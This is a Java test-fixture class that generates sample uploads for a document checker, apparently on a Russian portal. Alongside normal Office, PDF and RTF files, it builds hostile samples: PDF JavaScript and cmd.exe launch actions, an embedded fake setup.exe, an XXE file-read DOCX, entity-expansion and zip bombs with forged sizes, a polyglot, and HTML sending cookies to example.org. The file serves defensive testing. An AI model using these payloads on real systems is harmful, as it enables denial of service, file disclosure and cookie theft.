package ru.portal500.documents;

import org.apache.fontbox.ttf.TTFParser;
import org.apache.fontbox.ttf.TrueTypeFont;
import org.apache.pdfbox.io.RandomAccessReadBuffer;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType0Font;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * Documents of every kind an upload may be, good and bad, built in memory: nothing binary is committed.
 * DOCX, XLSX and PPTX with POI, PDF with PDFBox (both come with Tika), the rest by hand.
 */
public final class SampleDocuments {

    public static final String PASSWORD = "Секрет-500";
    private static final String FONT = "/org/apache/pdfbox/resources/ttf/LiberationSans-Regular.ttf";
    private static final String WORD_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    /**
     * A font with Cyrillic (PDFBox's own fallback font), parsed once per thread, its ligature table (GSUB)
     * hidden: PDFBox rebuilds a regular expression from it for every line written, which made one PDF cost
     * 150 ms instead of 10.
     */
    private static final ThreadLocal<TrueTypeFont> LIBERATION_SANS = ThreadLocal.withInitial(() -> {
        try (InputStream in = SampleDocuments.class.getResourceAsStream(FONT)) {
            byte[] font = in.readAllBytes();
            ByteBuffer directory = ByteBuffer.wrap(font);
            for (int table = 0, tables = directory.getShort(4); table < tables; table++) {
                if (directory.getInt(12 + 16 * table) == 0x47535542) { // "GSUB"
                    directory.putInt(12 + 16 * table, 0x58535542); // "XSUB": a table nobody reads
                }
            }
            return new TTFParser().parse(new RandomAccessReadBuffer(font));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    });

    private SampleDocuments() {
    }

    public static byte[] docx(List<String> paragraphs) {
        return ru.portal500.it.Docx.docx(paragraphs.toArray(String[]::new));
    }

    public static byte[] xlsx(List<String> cells) {
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            XSSFSheet sheet = workbook.createSheet("План");
            for (int i = 0; i < cells.size(); i++) {
                sheet.createRow(i).createCell(0).setCellValue(cells.get(i));
            }
            return write(workbook::write);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pptx(List<String> paragraphs) {
        try (XMLSlideShow show = new XMLSlideShow()) {
            for (String text : paragraphs) {
                XSLFTextBox box = show.createSlide().createTextBox();
                box.setAnchor(new java.awt.Rectangle(50, 50, 600, 400));
                box.setText(text);
            }
            return write(show::write);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pdf(List<String> paragraphs) {
        return pdf(paragraphs, null);
    }

    /** A PDF that opens only with {@link #PASSWORD} (PDFBox's standard security, AES-128). */
    public static byte[] encryptedPdf(List<String> paragraphs) {
        StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-" + PASSWORD, PASSWORD, new AccessPermission());
        policy.setEncryptionKeyLength(128);
        return pdf(paragraphs, policy);
    }

    private static byte[] pdf(List<String> paragraphs, StandardProtectionPolicy protection) {
        try (PDDocument document = new PDDocument()) {
            PDType0Font font = PDType0Font.load(document, LIBERATION_SANS.get(), true);
            PdfWriter writer = new PdfWriter(document, font);
            for (String paragraph : paragraphs) {
                writer.paragraph(paragraph);
            }
            writer.close();
            if (protection != null) {
                document.protect(protection);
            }
            return write(document::save);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A PDF that opens without a password but whose owner forbids copying text (an «owner password» only,
     * as «запрет копирования» in a PDF printer's settings makes).
     */
    public static byte[] ownerRestrictedPdf(List<String> paragraphs) {
        AccessPermission permissions = new AccessPermission();
        permissions.setCanExtractContent(false);
        permissions.setCanExtractForAccessibility(false);
        permissions.setCanModify(false);
        StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-" + PASSWORD, "", permissions);
        policy.setEncryptionKeyLength(128);
        return pdf(paragraphs, policy);
    }

    /** A scan: one page holding a picture and no text at all (what a scanner without OCR writes). */
    public static byte[] imageOnlyPdf() {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            java.awt.image.BufferedImage scan = new java.awt.image.BufferedImage(400, 560,
                    java.awt.image.BufferedImage.TYPE_BYTE_GRAY);
            java.awt.Graphics2D g = scan.createGraphics();
            g.setColor(java.awt.Color.WHITE);
            g.fillRect(0, 0, 400, 560);
            g.setColor(java.awt.Color.BLACK);
            for (int line = 0; line < 20; line++) {
                g.fillRect(40, 40 + line * 25, 320 - (line % 3) * 40, 8);
            }
            g.dispose();
            org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject image =
                    org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory.createFromImage(document, scan);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.drawImage(image, 50, 100, 400, 560);
            }
            return write(document::save);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF that runs JavaScript when it is opened (an OpenAction), with its text otherwise ordinary. */
    public static byte[] pdfWithJavaScript(List<String> paragraphs) {
        return withPdf(pdf(paragraphs), document -> document.getDocumentCatalog().setOpenAction(
                new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
                        "app.alert('Документ устарел: скачайте обновление'); this.submitForm('https://example.org/');")));
    }

    /** A PDF whose link on its first page starts a program of the reader's computer (a launch action). */
    public static byte[] pdfWithLaunchAction(List<String> paragraphs) {
        return withPdf(pdf(paragraphs), document -> {
            org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch launch =
                    new org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch();
            org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification program =
                    new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification();
            program.setFile("C:\\Windows\\System32\\cmd.exe");
            launch.setFile(program);
            org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink link =
                    new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 700, 200, 20));
            link.setAction(launch);
            document.getPage(0).getAnnotations().add(link);
        });
    }

    /** A PDF carrying a Windows program as an attached file ({@code setup.exe}, in the EmbeddedFiles tree). */
    public static byte[] pdfWithEmbeddedExecutable(List<String> paragraphs) {
        return withPdf(pdf(paragraphs), document -> {
            byte[] program = windowsExecutable();
            org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile embedded =
                    new org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile(document,
                            new ByteArrayInputStream(program));
            embedded.setSubtype("application/x-msdownload");
            embedded.setSize(program.length);
            org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification spec =
                    new org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification();
            spec.setFile("setup.exe");
            spec.setFileUnicode("setup.exe");
            spec.setEmbeddedFile(embedded);
            org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode files =
                    new org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode();
            files.setNames(java.util.Map.of("setup.exe", spec));
            org.apache.pdfbox.pdmodel.PDDocumentNameDictionary names =
                    new org.apache.pdfbox.pdmodel.PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /**
     * A DOCX as an archiver's password leaves it: the same ZIP with every entry marked encrypted (bit 0 of the
     * flags, in the local headers and the central directory; the bytes are not really encrypted, which no
     * detector can tell without the password).
     */
    public static byte[] docxInPasswordZip(List<String> paragraphs) {
        byte[] zip = docx(paragraphs);
        ByteBuffer bytes = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        for (int at = 0; at + 8 <= zip.length; at++) {
            int signature = bytes.getInt(at);
            if (signature == 0x04034b50) {
                bytes.putShort(at + 6, (short) (bytes.getShort(at + 6) | 1));
            } else if (signature == 0x02014b50) {
                bytes.putShort(at + 8, (short) (bytes.getShort(at + 8) | 1));
            }
        }
        return zip;
    }

    /** A PDF followed by a ZIP archive: PDF readers open the one, archivers the other (a polyglot). */
    public static byte[] pdfWithZipAppended(List<String> paragraphs) {
        byte[] pdf = pdf(paragraphs);
        byte[] zip = plainZip();
        byte[] both = Arrays.copyOf(pdf, pdf.length + zip.length);
        System.arraycopy(zip, 0, both, pdf.length, zip.length);
        return both;
    }

    private interface PdfChange {
        void apply(PDDocument document) throws IOException;
    }

    private static byte[] withPdf(byte[] pdf, PdfChange change) {
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            change.apply(document);
            return write(document::save);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Lines of at most 90 characters, 50 lines to an A4 page. */
    private static final class PdfWriter {
        private final PDDocument document;
        private final PDType0Font font;
        private PDPageContentStream page;
        private int lines;

        PdfWriter(PDDocument document, PDType0Font font) {
            this.document = document;
            this.font = font;
        }

        void paragraph(String text) throws IOException {
            StringBuilder line = new StringBuilder();
            for (String word : text.split(" ")) {
                if (line.length() + word.length() + 1 > 90) {
                    line(line.toString());
                    line.setLength(0);
                }
                line.append(line.length() == 0 ? "" : " ").append(word);
            }
            line(line.toString());
            line("");
        }

        private void line(String text) throws IOException {
            if (page == null || lines == 50) {
                close();
                PDPage next = new PDPage(PDRectangle.A4);
                document.addPage(next);
                page = new PDPageContentStream(document, next);
                page.beginText();
                page.setFont(font, 10);
                page.setLeading(15);
                page.newLineAtOffset(50, 790);
                lines = 0;
            }
            page.showText(text);
            page.newLine();
            lines++;
        }

        void close() throws IOException {
            if (page != null) {
                page.endText();
                page.close();
                page = null;
            }
        }
    }

    /** A DOCX encrypted with {@link #PASSWORD} (Office's agile encryption): an OLE2 container, not a zip. */
    public static byte[] encryptedDocx(List<String> paragraphs) {
        try (POIFSFileSystem container = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword(PASSWORD);
            try (OPCPackage docx = OPCPackage.open(new ByteArrayInputStream(docx(paragraphs)));
                 OutputStream encrypted = encryptor.getDataStream(container)) {
                docx.save(encrypted);
            }
            return write(container::writeFilesystem);
        } catch (IOException | java.security.GeneralSecurityException | org.apache.poi.openxml4j.exceptions.InvalidFormatException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * An OLE2 container with a {@code WordDocument} stream of noise: what a DOC is, to the detector, but
     * with nothing Word could read in it.
     */
    public static byte[] docWithGarbage() {
        try (POIFSFileSystem container = new POIFSFileSystem()) {
            container.createDocument(new ByteArrayInputStream(noise(4096, 7)), "WordDocument");
            return write(container::writeFilesystem);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] odt(List<String> paragraphs) {
        StringBuilder content = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\">"
                + "<office:body><office:text>");
        for (String p : paragraphs) {
            content.append("<text:p>").append(escapeXml(p)).append("</text:p>");
        }
        content.append("</office:text></office:body></office:document-content>");
        String manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\">"
                + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
                + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
                + "</manifest:manifest>";
        return zip(out -> {
            byte[] mimetype = "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII);
            ZipEntry first = new ZipEntry("mimetype");
            first.setMethod(ZipEntry.STORED);
            first.setSize(mimetype.length);
            CRC32 crc = new CRC32();
            crc.update(mimetype);
            first.setCrc(crc.getValue());
            out.putNextEntry(first);
            out.write(mimetype);
            entry(out, "META-INF/manifest.xml", manifest.getBytes(StandardCharsets.UTF_8));
            entry(out, "content.xml", content.toString().getBytes(StandardCharsets.UTF_8));
        });
    }

    /** RTF with every non-ASCII character as a Unicode escape, as Word writes Russian. */
    public static byte[] rtf(List<String> paragraphs) {
        StringBuilder rtf = new StringBuilder("{\\rtf1\\ansi\\ansicpg1251\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0\\fs24 ");
        for (String p : paragraphs) {
            for (char c : p.toCharArray()) {
                if (c > 127) {
                    rtf.append("\\u").append((int) (short) c).append('?');
                } else if (c == '\\' || c == '{' || c == '}') {
                    rtf.append('\\').append(c);
                } else {
                    rtf.append(c);
                }
            }
            rtf.append("\\par\n");
        }
        return rtf.append('}').toString().getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] text(List<String> paragraphs) {
        return String.join("\n", paragraphs).getBytes(StandardCharsets.UTF_8);
    }

    /** A minimal DOCX (the three parts Word needs) with this {@code word/document.xml}. */
    public static byte[] docxWithDocumentXml(String documentXml) {
        return zip(out -> {
            entry(out, "[Content_Types].xml", CONTENT_TYPES.getBytes(StandardCharsets.UTF_8));
            entry(out, "_rels/.rels", RELS.getBytes(StandardCharsets.UTF_8));
            entry(out, "word/document.xml", documentXml.getBytes(StandardCharsets.UTF_8));
        });
    }

    /** A DOCX whose text is an external entity naming {@code secret} (a file of this machine): an XXE attempt. */
    public static byte[] docxWithExternalEntity(java.nio.file.Path secret) {
        return docxWithDocumentXml("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>"
                + "<w:document xmlns:w=\"" + WORD_NS + "\"><w:body>"
                + "<w:p><w:r><w:t>До сущности: &xxe; после сущности.</w:t></w:r></w:p>"
                + "</w:body></w:document>");
    }

    /**
     * «Billion laughs»: a DOCX whose {@code word/document.xml} declares ten entities, each ten of the one
     * before, and uses the last (a billion «lol» if a parser expanded it).
     */
    public static byte[] billionLaughsDocx() {
        StringBuilder dtd = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return docxWithDocumentXml("<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE w:document [" + dtd + "]>"
                + "<w:document xmlns:w=\"" + WORD_NS + "\"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>"
                + "</w:body></w:document>");
    }

    /**
     * The quadratic blow-up: one entity of 100,000 random letters used 20,000 times (2 billion characters from a part
     * that packs like ordinary text; no nesting, so a limit on nesting alone does not catch it).
     */
    public static byte[] quadraticBlowupDocx() {
        Random random = new Random(500);
        StringBuilder letters = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            letters.append((char) ('а' + random.nextInt(32)));
        }
        String big = letters.toString(); // random letters: the part packs like text, not like a bomb
        return docxWithDocumentXml("<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE w:document [<!ENTITY a \""
                + big + "\">]><w:document xmlns:w=\"" + WORD_NS + "\"><w:body><w:p><w:r><w:t>"
                + "&a;".repeat(20_000) + "</w:t></w:r></w:p></w:body></w:document>");
    }

    /** A DOCX whose {@code word/document.xml} breaks off mid-element: XML that does not parse. */
    public static byte[] docxWithBrokenXml() {
        return docxWithDocumentXml("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"" + WORD_NS
                + "\"><w:body><w:p><w:r><w:t>Концепция развития</w:r></w:p><w:p><w:r><w:t");
    }

    /**
     * A zip bomb dressed as a DOCX: a real DOCX's parts, but a {@code word/document.xml} of
     * {@code megabytes} MB (one paragraph of the letter «a») that packs about a thousand to one.
     */
    public static byte[] zipBombDocx(int megabytes) {
        return zip(out -> {
            entry(out, "[Content_Types].xml", CONTENT_TYPES.getBytes(StandardCharsets.UTF_8));
            entry(out, "_rels/.rels", RELS.getBytes(StandardCharsets.UTF_8));
            out.putNextEntry(new ZipEntry("word/document.xml"));
            out.write(("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"" + WORD_NS
                    + "\"><w:body><w:p><w:r><w:t>").getBytes(StandardCharsets.UTF_8));
            byte[] chunk = new byte[1024 * 1024];
            Arrays.fill(chunk, (byte) 'a');
            for (int i = 0; i < megabytes; i++) {
                out.write(chunk);
            }
            out.write("</w:t></w:r></w:p></w:body></w:document>".getBytes(StandardCharsets.UTF_8));
            out.closeEntry();
        });
    }

    /**
     * The same bomb with its central directory lying: {@code word/document.xml} claims to unpack to 4 KB,
     * so only watching the unpacking itself can catch it.
     */
    public static byte[] zipBombDocxWithForgedSizes(int megabytes) {
        byte[] zip = zipBombDocx(megabytes);
        byte[] name = "word/document.xml".getBytes(StandardCharsets.US_ASCII);
        ByteBuffer bytes = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        for (int at = zip.length - 22; at >= 0; at--) {
            if (bytes.getInt(at) == 0x02014b50 && Arrays.equals(zip, at + 46, at + 46 + name.length, name, 0, name.length)) {
                bytes.putInt(at + 24, 4096); // central directory: uncompressed size
                return zip;
            }
        }
        throw new IllegalStateException("No central directory entry for word/document.xml");
    }

    /** The first {@code fraction} of a file: an upload that broke off. */
    public static byte[] truncated(byte[] file, double fraction) {
        return Arrays.copyOf(file, (int) (file.length * fraction));
    }

    /** A 64-bit Linux program: an ELF header (x86-64, executable) and noise. */
    public static byte[] elfExecutable() {
        ByteBuffer elf = ByteBuffer.allocate(8192).order(ByteOrder.LITTLE_ENDIAN);
        elf.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0});
        elf.putShort((short) 2).putShort((short) 0x3e).putInt(1).putLong(0x401000).putLong(64).putLong(0)
                .putInt(0).putShort((short) 64).putShort((short) 56).putShort((short) 1).putShort((short) 64)
                .putShort((short) 0).putShort((short) 0);
        elf.put(noise(8192 - elf.position(), 11));
        return elf.array();
    }

    /** A Windows program: the MZ stub pointing at a PE header (i386), then noise. */
    public static byte[] windowsExecutable() {
        ByteBuffer exe = ByteBuffer.allocate(8192).order(ByteOrder.LITTLE_ENDIAN);
        exe.put(new byte[] {'M', 'Z', (byte) 0x90, 0});
        exe.position(0x3c);
        exe.putInt(0x80);
        exe.position(0x80);
        exe.put(new byte[] {'P', 'E', 0, 0}).putShort((short) 0x14c).putShort((short) 3).putInt(0).putInt(0).putInt(0)
                .putShort((short) 0xe0).putShort((short) 0x0102);
        exe.putShort((short) 0x10b); // optional header: PE32
        exe.put(noise(8192 - exe.position(), 13));
        return exe.array();
    }

    public static byte[] plainZip() {
        return zip(out -> entry(out, "отчёт.txt", "Отчёт о самообследовании".getBytes(StandardCharsets.UTF_8)));
    }

    public static byte[] htmlWithScript() {
        return ("<!DOCTYPE html><html><head><title>Концепция</title><script>document.location='https://example.org/'"
                + "+document.cookie</script></head><body><p>Концепция развития</p></body></html>")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** The names of a zip's entries, in order. */
    public static List<String> entryNames(byte[] zip) throws IOException {
        List<String> names = new java.util.ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                names.add(e.getName());
            }
        }
        return names;
    }

    static byte[] noise(int length, long seed) {
        byte[] bytes = new byte[length];
        new Random(seed).nextBytes(bytes);
        return bytes;
    }

    private static String escapeXml(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    private static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\""
            + " ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
            + "</Types>";
    private static final String RELS = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\""
            + " Target=\"word/document.xml\"/></Relationships>";

    private interface Writing {
        void to(OutputStream out) throws IOException;
    }

    private interface Zipping {
        void to(ZipOutputStream out) throws IOException;
    }

    private static byte[] write(Writing writing) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writing.to(out);
        return out.toByteArray();
    }

    private static byte[] zip(Zipping zipping) {
        try {
            return write(out -> {
                try (ZipOutputStream zip = new ZipOutputStream(out)) {
                    zipping.to(zip);
                }
            });
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void entry(ZipOutputStream out, String name, byte[] content) throws IOException {
        out.putNextEntry(new ZipEntry(name));
        out.write(content);
        out.closeEntry();
    }
}
